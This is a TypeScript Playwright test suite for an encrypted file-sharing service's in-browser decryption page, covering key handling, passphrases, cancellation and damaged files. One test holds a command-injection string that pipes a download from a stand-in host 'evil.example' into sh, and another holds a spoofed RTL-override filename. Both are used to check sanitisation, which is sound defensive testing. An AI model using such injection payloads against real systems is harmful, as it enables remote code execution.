import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { armor, Encrypter } from "age-encryption";
import type { Page } from "playwright-core";
import { withFragmentKey } from "../../../src/transfer/encryption/fragment-key.ts";
import { browserMissing, openPage } from "../../support/browser/browser.ts";
import { soon } from "../../support/soon.ts";
import { describeUnless } from "../../support/suite.ts";
import { clientOf, postUpload, type Upload } from "../support/api/api.ts";
import { chooseSavedFile, pretendLarge } from "../support/encryption/saved-files.ts";
import { encryptFor, wrapFile } from "../support/encryption/sealed-files.ts";
import { GUARDED, useSealingSite } from "../support/encryption/sealing-site.ts";
import { postBatch } from "../support/uploads/batches.ts";
import { MB, someBytes } from "../support/uploads/multipart.ts";

const BYTES = someBytes(300_000, 5);
/** A host without HTTPS, whose pages have no WebCrypto. */
const PLAIN_HOST = "files.example";
const PASSPHRASE = "correct horse battery staple";

/** encryption, "On the page". */
describeUnless(browserMissing, "the page of an encrypted file", () => {
  const site = useSealingSite(GUARDED, { hosts: [PLAIN_HOST] });

  const encrypt = (bytes: Uint8Array): Promise<Uint8Array<ArrayBuffer>> => encryptFor(site.sender.key.recipient, bytes);

  async function encryptByPassphrase(bytes: Uint8Array): Promise<Uint8Array<ArrayBuffer>> {
    const encrypter = new Encrypter();
    encrypter.setScryptWorkFactor(12);
    encrypter.setPassphrase(PASSPHRASE);
    return new Uint8Array(await encrypter.encrypt(bytes));
  }

  async function send(bytes: Uint8Array<ArrayBuffer>, fields: Record<string, string> = {}, name = "report.pdf.age"): Promise<Upload> {
    const { status, body } = await postUpload(site.server, { bytes, name, fields });
    assert.equal(status, 200, JSON.stringify(body));
    return body.data;
  }

  const linkOf = ({ shortId }: Pick<Upload, "shortId">): string => `${site.server.url}/d/${shortId}`;
  /** The button that a person may press: until the script has loaded, the page has another of this name, which is disabled. */
  const button = (page: Page) => page.getByRole("button", { name: "Decrypt and download", disabled: false });

  async function save(page: Page): Promise<{ readonly name: string; readonly bytes: Uint8Array }> {
    const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
    assert.match(download.url(), /^blob:/);
    return { name: download.suggestedFilename(), bytes: new Uint8Array(await readFile(await download.path())) };
  }

  /** Counts the requests for a file's bytes from now on. */
  function countByteRequests(page: Page): () => number {
    let requests = 0;
    page.on("request", (request) => {
      if (request.url().endsWith("/bytes")) requests += 1;
    });
    return () => requests;
  }
  test("decrypts it with the key in the link, which no request and no log contains", async () => {
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    const requests: string[] = [];
    page.on("request", (request) => requests.push(JSON.stringify([request.url(), request.postData(), request.headers()])));
    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES))), site.sender.key.identity);
    await page.goto(link);
    await soon(async () => assert.equal(await page.getByLabel("Passphrase or key").count(), 0));
    await button(page).waitFor();
    assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
    await page.getByText("Decrypted. Your browser saves the file.").first().waitFor();
    await page.getByText("Details").click();
    await soon(async () => assert.equal(await page.locator("#terminal").textContent(), `filehost down '${link}'`));
    await page.getByRole("link", { name: "Deutsch" }).click();
    await page.getByRole("button", { name: "Entschlüsseln und herunterladen" }).waitFor();
    assert.equal(new URL(page.url()).hash, new URL(link).hash);
    const secret = site.sender.key.identity.slice("AGE-SECRET-KEY-1".length, 40);
    const seen = requests.filter((request) => request.toUpperCase().includes(secret) && !request.startsWith('["blob:'));
    // The browser's own record of a page's URL has its fragment, which is not sent.
    assert.deepEqual(
      seen.filter((request) => !request.startsWith(`["${linkOf({ shortId: "" })}`)),
      [],
    );
    assert.ok(!JSON.stringify(site.server.logs()).toUpperCase().includes(secret));
    assert.deepEqual(complaints, []);
  });

  test("asks for a passphrase, and after a wrong one again, without another download", async () => {
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    const file = await send(await encryptByPassphrase(BYTES), { maxDownloads: "2" });
    await page.goto(linkOf(file));
    await button(page).click();
    await page.getByText("Enter the passphrase or the key first.").first().waitFor();
    await page.getByLabel("Passphrase or key").fill("another passphrase");
    await button(page).click();
    await page.locator("#decryption-problem").getByText("does not match this file. Nothing was saved.").waitFor();
    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
    assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
    await page.getByText("1 download left").first().waitFor();
    assert.deepEqual(complaints, []);
  });

  /** Holds the worker's script back until it is released, so that a decryption has begun and cannot end. */
  async function holdWorker(page: Page): Promise<() => void> {
    const released = Promise.withResolvers<void>();
    await page.route(/\/decrypt\.worker-/, async (route) => {
      await released.promise;
      // A cancelled request has no response.
      await route.continue().catch(() => undefined);
    });
    return released.resolve;
  }

  test("decrypts in a worker without a connection, and ends the worker", async () => {
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    const script = page.waitForEvent("response", (response) => response.url().includes("/assets/decrypt.worker-"));
    const ended = Promise.withResolvers<void>();
    page.on("worker", (worker) => worker.on("close", () => ended.resolve()));
    await page.goto(withFragmentKey(linkOf(await send(await encrypt(BYTES))), site.sender.key.identity));
    assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
    assert.equal((await script).headers()["content-security-policy"], "default-src 'none'");
    await ended.promise;
    assert.deepEqual(complaints, []);
  });

  test("can cancel, keeps its messages when the page changes, and can begin again", async () => {
    await using opened = await openPage(site.browser);
    const { page } = opened;
    const link = linkOf(await send(await encryptByPassphrase(BYTES), { maxDownloads: "3" }));
    const release = await holdWorker(page);
    await page.goto(link);
    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
    await button(page).click();
    await page.locator("#decryption-status").getByText("Trying the key…").waitFor();
    await page.evaluate(async () => {
      const html = await (await fetch(location.href, { headers: { Accept: "text/html" } })).text();
      document.dispatchEvent(new CustomEvent("filehost:page", { detail: html }));
    });
    await page.locator("#decryption-status").getByText("Trying the key…").waitFor();
    await page.getByRole("button", { name: "Decrypt and download", disabled: true }).waitFor();
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.locator("#decryption-status").getByText("Cancelled. Nothing was saved.").waitFor();
    release();
    await soon(async () => assert.equal(await page.getByLabel("Passphrase or key").inputValue(), PASSPHRASE));
    assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
  });

  test("can cancel the decryption of a file that is written as text, and can begin again", async () => {
    await using opened = await openPage(site.browser);
    const { page } = opened;
    await chooseSavedFile(page);
    // The first response ends in the middle of the file, and is not closed.
    await page.addInitScript(() => {
      const { fetch } = globalThis;
      let isFirst = true;
      globalThis.fetch = Object.assign(async (...input: Parameters<typeof fetch>) => {
        const response = await fetch(...input);
        if (!isFirst || !response.url.endsWith("/bytes")) return response;
        isFirst = false;
        const bytes = new Uint8Array(await response.arrayBuffer()).subarray(0, 200_000);
        return new Response(new ReadableStream({ start: (controller) => controller.enqueue(bytes) }), { headers: response.headers });
      }, fetch);
    });
    const sealed = new Uint8Array(Buffer.from(armor.encode(await encrypt(BYTES))));
    await page.goto(withFragmentKey(linkOf(await send(sealed)), site.sender.key.identity));
    await pretendLarge(button(page));
    await button(page).click();
    await page.locator("#decryption-status").getByText("Decrypting…").waitFor();
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.locator("#decryption-status").getByText("Cancelled. Nothing was saved.").waitFor();
    await button(page).click();
    await page.locator("#decryption-status").getByText("Decrypted").waitFor();
  });

  test("decrypts files that are written as text, and without WebCrypto, which is missing without HTTPS", async () => {
    const sealed = await encrypt(BYTES);
    for (const bytes of [sealed, new Uint8Array(Buffer.from(armor.encode(sealed)))]) {
      const file = await send(bytes, {}, "report.pdf.age");
      for (const host of ["localhost", PLAIN_HOST]) {
        await using opened = await openPage(site.browser);
        const { page } = opened;
        await page.goto(withFragmentKey(linkOf(file).replace(/localhost|127\.0\.0\.1/, host), site.sender.key.identity));
        await soon(async () => assert.equal(await page.evaluate(() => typeof crypto.subtle), host === PLAIN_HOST ? "undefined" : "object"));
        assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
      }
    }
  });

  test("keeps the key in the URL of another list of files, and in the links to it", async () => {
    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
    const bytes = await encrypt(Buffer.from("words"));
    const files = Array.from({ length: 30 }, (_, index) => ({ relativePath: `${String(index).padStart(3, "0")}.age`, bytes }));
    await postBatch(site.server, { shareShortId: shortId, shareToken }, files);
    await using opened = await openPage(site.browser);
    const { page } = opened;
    const link = withFragmentKey(linkOf({ shortId }), site.sender.key.identity);
    await page.goto(link);
    await page.locator("button[data-all][data-decrypt]").waitFor();
    await page.locator("#search").fill("001");
    await page.waitForURL(/q=001/);
    assert.equal(new URL(page.url()).hash, new URL(link).hash);
    const hash = await page.evaluate(() => {
      const link = Object.assign(document.createElement("a"), { href: "?sort=size", textContent: "sort" });
      document.querySelector("main")?.append(link);
      addEventListener("click", (event) => event.preventDefault());
      link.click();
      return link.hash;
    });
    assert.equal(hash, new URL(link).hash);
  });

  test("tries each key for a large file with the same response", async () => {
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    await chooseSavedFile(page);
    const requests = countByteRequests(page);
    await page.goto(linkOf(await send(await encryptByPassphrase(BYTES), { maxDownloads: "3" })));
    await page.getByLabel("Passphrase or key").waitFor();
    await pretendLarge(page.locator("button[data-decrypt]"));
    for (const wrong of ["another passphrase", "a third passphrase"]) {
      await page.getByLabel("Passphrase or key").fill(wrong);
      await button(page).click();
      await page.locator("#decryption-problem").getByText("does not match this file. Nothing was saved.").waitFor();
    }
    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
    await button(page).click();
    await page.getByText("2 downloads left").first().waitFor();
    assert.equal(requests(), 1);
    const saved = await page.evaluate(async () => {
      const folder = await navigator.storage.getDirectory();
      return [...new Uint8Array(await (await (await folder.getFileHandle("saved")).getFile()).arrayBuffer())];
    });
    assert.deepEqual(Buffer.from(saved), Buffer.from(BYTES));
    assert.deepEqual(complaints, []);
  });

  test("counts no download of a large file before its worker is loaded", async () => {
    await using opened = await openPage(site.browser);
    const { page } = opened;
    await chooseSavedFile(page);
    const requests = countByteRequests(page);
    const worker = "**/assets/decrypt.worker-*";
    await page.route(worker, (route) => route.fulfill({ status: 404 }));
    const sent = await send(await encrypt(BYTES), { maxDownloads: "2" });
    await page.goto(withFragmentKey(linkOf(sent), site.sender.key.identity));
    await pretendLarge(button(page));
    await button(page).click();
    await page.locator("p.problem").filter({ visible: true }).waitFor();
    assert.equal(requests(), 0);
    await page.unroute(worker);
    await button(page).click();
    await page.getByText("1 download left").first().waitFor();
    assert.equal(requests(), 1);
  });

  test("shows the hidden name of a large file, which is unknown before a file is chosen for it", async () => {
    const wrapped = wrapFile("docs/\u202egpj.exe", BYTES);
    // Without the limit, the page would know the name already.
    const limit = { maxDownloads: "3" };
    const file = await send(await encrypt(wrapped), limit, "encrypted-0123456789abcdef.tar.age");
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    await page.addInitScript(() => {
      const choose = async ({ suggestedName }: { suggestedName: string }) =>
        await (await navigator.storage.getDirectory()).getFileHandle(suggestedName, { create: true });
      Object.assign(globalThis, { showSaveFilePicker: choose });
    });
    await page.goto(withFragmentKey(linkOf(file), site.sender.key.identity));
    await pretendLarge(button(page));
    await button(page).click();
    await page.locator("#decryption-status").getByText("The sender calls the file “docs/gpj.exe”.").waitFor();
    const size = await page.evaluate(async () => {
      const folder = await navigator.storage.getDirectory();
      return (await (await folder.getFileHandle("encrypted-0123456789abcdef")).getFile()).size;
    });
    assert.deepEqual([size, complaints], [BYTES.length, []]);
  });

  /** Opens a page that cannot write to a file, but has a service worker, and makes it treat its file as a large one. */
  async function openWithWorker(link: string) {
    const opened = await openPage(site.browser, { serviceWorkers: "allow" });
    await opened.page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
    await opened.page.goto(link);
    await pretendLarge(button(opened.page));
    return opened;
  }

  test("saves a large file by the service worker if the browser cannot write to a file, under its hidden name", async () => {
    const wrapped = wrapFile("docs/Größe 'x'.txt", BYTES);
    const file = await send(await encrypt(wrapped), { maxDownloads: "3" }, "encrypted.tar.age");
    await using opened = await openWithWorker(withFragmentKey(linkOf(file), site.sender.key.identity));
    const { page, complaints } = opened;
    for (const left of ["2 downloads left", "1 download left"]) {
      const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
      assert.equal(download.suggestedFilename(), "Größe 'x'.txt");
      assert.deepEqual(new Uint8Array(await readFile(await download.path())), new Uint8Array(BYTES));
      await page.getByText("Decrypted. Your browser saves the file.").first().waitFor();
      await page.getByText(left).first().waitFor();
      await pretendLarge(button(page));
    }
    assert.deepEqual(complaints, []);
  });

  test("a damaged large file is a failed download of the service worker", async () => {
    // More than the page decrypts before it passes the first bytes on.
    const sealed = await encrypt(someBytes(3 * MB, 6));
    sealed[sealed.length - 20] = (sealed.at(-20) ?? 0) ^ 1;
    await using opened = await openWithWorker(withFragmentKey(linkOf(await send(sealed)), site.sender.key.identity));
    const { page } = opened;
    const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
    assert.notEqual(await download.failure(), null);
    await page.locator("#decryption-status.problem").waitFor();
  });

  test("shows the command for a large file if the browser can neither write to a file nor run a service worker, and requests nothing", async () => {
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    await page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES), { maxDownloads: "1" })), site.sender.key.identity);
    await page.goto(link);
    await pretendLarge(button(page));
    await button(page).click();
    await page.locator("#decryption-status").getByText("cannot decrypt a file of this size").waitFor();
    await soon(async () => assert.equal(await page.locator("#decryption-command").textContent(), `filehost down '${link}'`));
    assert.ok(!requests.some((url) => url.endsWith("/bytes")));
    assert.deepEqual(complaints, []);
  });

  test("restores a hidden name, also behind a code", async () => {
    const wrapped = wrapFile("docs/Größe.txt", BYTES);
    const file = await send(await encrypt(wrapped), { protect: "true" }, "encrypted.tar.age");
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    await page.goto(withFragmentKey(linkOf(file), site.sender.key.identity));
    await page.getByLabel("Code").fill((file as { unlockCode?: string }).unlockCode ?? "");
    await page.getByRole("button", { name: "Unlock" }).click();
    assert.deepEqual(await save(page), { name: "Größe.txt", bytes: new Uint8Array(BYTES) });
    assert.deepEqual(complaints, []);
  });

  test("saves nothing from damaged bytes or from a file that ends early", async () => {
    const sealed = await encrypt(BYTES);
    const cases = [
      {
        bytes: sealed.map((byte, index) => (index === 200_000 ? byte ^ 1 : byte)),
        identity: site.sender.key.identity,
        text: "damaged or incomplete",
      },
      { bytes: sealed.slice(0, -70_000), identity: site.sender.key.identity, text: "damaged or incomplete" },
      { bytes: sealed.slice(0, sealed.length - 300_000 + 3 * 65_536), identity: site.sender.key.identity, text: "damaged or incomplete" },
    ];
    for (const { bytes, identity, text } of cases) {
      await using opened = await openPage(site.browser);
      const { page } = opened;
      let downloads = 0;
      page.on("download", () => {
        downloads += 1;
      });
      await page.goto(withFragmentKey(linkOf(await send(bytes)), identity));
      await button(page).click();
      await page.locator(".problem").getByText(text).waitFor();
      await page.locator(".problem").getByText("Nothing was saved").waitFor();
      assert.equal(downloads, 0);
    }
  });

  test("does not spend more work on a passphrase than a usual file requires", async () => {
    const header = `age-encryption.org/v1\n-> scrypt ${"A".repeat(22)} 21\n${"A".repeat(43)}\n--- ${"A".repeat(43)}\n`;
    await using opened = await openPage(site.browser);
    const { page } = opened;
    await page.goto(linkOf(await send(new Uint8Array(Buffer.from(header)))));
    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
    await page.getByRole("button", { name: "Decrypt", exact: true }).click();
    await page.locator(".problem").getByText("needs more time or memory").waitFor();
  });

  test("decrypts the files of a shipment one by one", async () => {
    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
    const files = [
      { relativePath: "a.txt.age", bytes: await encrypt(Buffer.from("the first")) },
      { relativePath: "b.txt.age", bytes: await encrypt(Buffer.from("the second")) },
    ];
    await postBatch(site.server, { shareShortId: shortId, shareToken }, files);
    await using opened = await openPage(site.browser);
    const { page, complaints } = opened;
    const link = withFragmentKey(linkOf({ shortId }), site.sender.key.identity);
    await page.goto(link);
    await page.locator("button[data-all][data-decrypt]").waitFor();
    await soon(async () => assert.equal(await page.locator("#terminal").textContent(), `filehost down '${link}'`));
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download b.txt", exact: true }).click(),
    ]);
    assert.deepEqual([download.suggestedFilename(), await readFile(await download.path(), "utf8")], ["b.txt", "the second"]);
    assert.deepEqual(complaints, []);
  });

  test("takes only the key of a link into the command to copy, and into the links to other languages", async () => {
    const evil = "x=';curl$IFS-evil.example|sh;'";
    const { shortId, shareToken = "" } = (await clientOf(site.server).call("createShare", {})).data;
    const files = ["a.txt.age", "b.txt.age"].map(async (relativePath) => ({
      relativePath,
      bytes: await encrypt(Buffer.from(relativePath)),
    }));
    await postBatch(site.server, { shareShortId: shortId, shareToken }, await Promise.all(files));
    const cases = [
      { hash: `#key=${site.sender.key.identity}&${evil}`, expected: withFragmentKey(linkOf({ shortId }), site.sender.key.identity) },
      {
        hash: `#${evil}&key=${site.sender.key.identity.toLowerCase()}`,
        expected: withFragmentKey(linkOf({ shortId }), site.sender.key.identity),
      },
      { hash: `#${evil}`, expected: linkOf({ shortId }) },
      { hash: `#key=${site.sender.key.identity}';${evil}`, expected: linkOf({ shortId }) },
    ];
    for (const { hash, expected } of cases) {
      await using opened = await openPage(site.browser);
      const { page } = opened;
      await page.goto(`${linkOf({ shortId })}${hash}`);
      await page.locator("button[data-all][data-decrypt]").waitFor({ state: "attached" });
      await soon(async () => assert.equal(await page.locator("#terminal").textContent(), `filehost down '${expected}'`));
      await soon(async () => assert.doesNotMatch((await page.locator("main").textContent()) ?? "", /evil/));
      const hashes = await page.locator(".foot a[hreflang]").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).hash));
      for (const one of hashes) assert.equal(one, new URL(expected).hash);
    }
  });

  test("offers the encrypted bytes too, and only those of encrypted files to its script", async () => {
    const sealed = await encrypt(BYTES);
    const file = await send(sealed);
    const plain = await send(new Uint8Array(Buffer.from("not encrypted")), {}, "a.txt");
    const ask = ({ id, shortId }: Upload) =>
      fetch(`${linkOf({ shortId })}/bytes`, { method: "POST", body: new URLSearchParams({ fileId: id }) });
    const sent = await ask(file);
    assert.deepEqual([sent.status, sent.headers.get("content-type")], [200, "application/octet-stream"]);
    assert.match(sent.headers.get("content-disposition") ?? "", /^attachment/);
    assert.deepEqual(new Uint8Array(await sent.arrayBuffer()), sealed);
    assert.equal((await ask(plain)).status, 404);
    await using opened = await openPage(site.browser, { javaScriptEnabled: false });
    await opened.page.goto(linkOf(file));
    await soon(async () => assert.equal(await opened.page.getByRole("button", { name: "Download encrypted" }).count(), 1));
    await soon(async () => assert.equal(await button(opened.page).count(), 0));
    await opened.page.getByText("To decrypt, turn on JavaScript, or use the program filehost:").waitFor();
  });
});
